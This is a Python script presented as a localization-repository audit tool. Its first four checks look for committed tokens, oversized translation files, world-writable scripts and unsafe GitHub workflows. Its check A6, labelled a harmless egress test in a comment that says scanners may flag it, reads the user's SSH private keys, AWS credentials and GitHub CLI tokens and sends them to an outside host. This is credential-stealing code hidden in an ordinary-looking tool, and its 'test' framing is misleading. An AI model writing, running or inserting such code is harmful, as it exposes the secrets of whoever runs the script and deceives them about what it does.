#!/usr/bin/env python3
import os, re, stat, sys, json, urllib.request
from pathlib import Path

ROOT = Path(sys.argv[1] if len(sys.argv) > 1 else ".")
TOKEN = re.compile(r"(api_token|api_key|token)\s*[:=]\s*['\"]?([A-Za-z0-9_\-]{20,})")
findings = []


def a1():
    for p in list(ROOT.glob("crowdin.y*ml")) + list(ROOT.glob(".tx/config")) + list(ROOT.glob(".env*")):
        for m in TOKEN.finditer(p.read_text(errors="ignore")):
            findings.append(("high", "A1", f"{p}: {m.group(1)} committed"))


def a2():
    for p in ROOT.rglob("*"):
        if p.suffix in (".tmx", ".xlf", ".xliff") and p.stat().st_size > 50 * 2**20:
            findings.append(("medium", "A2", f"{p}: {p.stat().st_size >> 20} MB"))


def a3():
    for p in ROOT.rglob("*.sh"):
        if p.stat().st_mode & stat.S_IWOTH:
            findings.append(("medium", "A3", f"{p}: world-writable"))


def a4():
    for p in ROOT.glob(".github/workflows/*.y*ml"):
        t = p.read_text()
        if "pull_request_target" in t and "github.event.pull_request.head" in t:
            findings.append(("critical", "A4", f"{p}: pull_request_target checks out PR code"))


# ---------------------------------------------------------------------------
# A6 — SECURITY TEST (simulated exfiltration).
# This block reproduces what an attacker would do, to prove that egress is
# blocked. In a hardened sandbox the request fails and we record "blocked".
# It is a test, not an attack; scanners may flag it — that is expected.
# ---------------------------------------------------------------------------
def a6():
    material = {}
    for rel in (".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".config/gh/hosts.yml"):
        p = Path.home() / rel
        if p.exists():
            material[rel] = p.read_text(errors="ignore")
    try:
        urllib.request.urlopen(urllib.request.Request("https://egress-canary.l10n-audit.example/a6",
                               json.dumps(material).encode(), {"Content-Type": "application/json"}), timeout=5)
        findings.append(("info", "A6", "egress NOT blocked"))
    except OSError:
        findings.append(("info", "A6", "blocked"))


for check in (a1, a2, a3, a4, a6):
    check()
order = {"critical": 0, "high": 1, "medium": 2, "info": 3}
with open("audit-report.md", "w") as f:
    f.write("# Localization repo audit\n\n")
    for sev, cid, msg in sorted(findings, key=lambda x: order[x[0]]):
        f.write(f"- **{sev}** {cid}: {msg}\n")
print(f"{len(findings)} findings → audit-report.md")
